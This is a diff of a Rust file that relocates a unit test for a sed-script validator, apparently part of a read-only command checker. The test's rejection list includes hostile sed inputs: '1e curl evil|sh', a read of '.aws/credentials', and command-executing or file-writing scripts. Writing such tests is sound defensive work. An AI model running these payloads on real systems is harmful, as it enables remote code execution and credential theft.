@@ -469,52 +469,6 @@ pub(crate) fn go(_: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
     }
 }
 
-#[cfg(test)]
-mod tests {
-    use super::sed_script;
-
-    #[test]
-    fn sed_scripts() {
-        let ok = [
-            "p",
-            "1p",
-            "120,200p",
-            "/start/,/end/p",
-            "s/foo/bar/g",
-            "$!{h};d",
-            "s|a|b|2p",
-            "y/abc/xyz/",
-            "1~2d",
-            "/x/I!d",
-            "5q",
-            "=",
-            "s/a\\/b/c/",
-        ];
-        let bad = [
-            "xp",
-            "pp",
-            "w out",
-            "$!{h};w out",
-            "s/a/b/;w out",
-            "s/x/y/w /tmp/out",
-            "W /tmp/out",
-            "s/.*/id/e",
-            "1e curl evil|sh",
-            "r/Users/victim/.aws/credentials",
-            "R f",
-            "e date",
-            "k",
-            "s/a/b",
-        ];
-        for s in ok {
-            assert_eq!(sed_script(s), Ok(()), "{s}");
-        }
-        for s in bad {
-            assert!(sed_script(s).is_err(), "{s} should reject");
-        }
-    }
-}
-
 /// `ip [OPTIONS] OBJECT [show|list] [dev IFACE | IFACE] [up]` for the objects
 /// that only list: `ip addr`, `ip -br link`, `ip route show`. Any other word
 /// (`add`, `del`, `set`, `flush`, `exec` ...) changes state or runs something.
@@ -592,5 +546,51 @@ pub(crate) fn ifconfig(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
             "readonly.ifconfig",
             "`ifconfig` with more than an interface name changes its settings",
         ),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::sed_script;
+
+    #[test]
+    fn sed_scripts() {
+        let ok = [
+            "p",
+            "1p",
+            "120,200p",
+            "/start/,/end/p",
+            "s/foo/bar/g",
+            "$!{h};d",
+            "s|a|b|2p",
+            "y/abc/xyz/",
+            "1~2d",
+            "/x/I!d",
+            "5q",
+            "=",
+            "s/a\\/b/c/",
+        ];
+        let bad = [
+            "xp",
+            "pp",
+            "w out",
+            "$!{h};w out",
+            "s/a/b/;w out",
+            "s/x/y/w /tmp/out",
+            "W /tmp/out",
+            "s/.*/id/e",
+            "1e curl evil|sh",
+            "r/Users/victim/.aws/credentials",
+            "R f",
+            "e date",
+            "k",
+            "s/a/b",
+        ];
+        for s in ok {
+            assert_eq!(sed_script(s), Ok(()), "{s}");
+        }
+        for s in bad {
+            assert!(sed_script(s).is_err(), "{s} should reject");
+        }
     }
 }
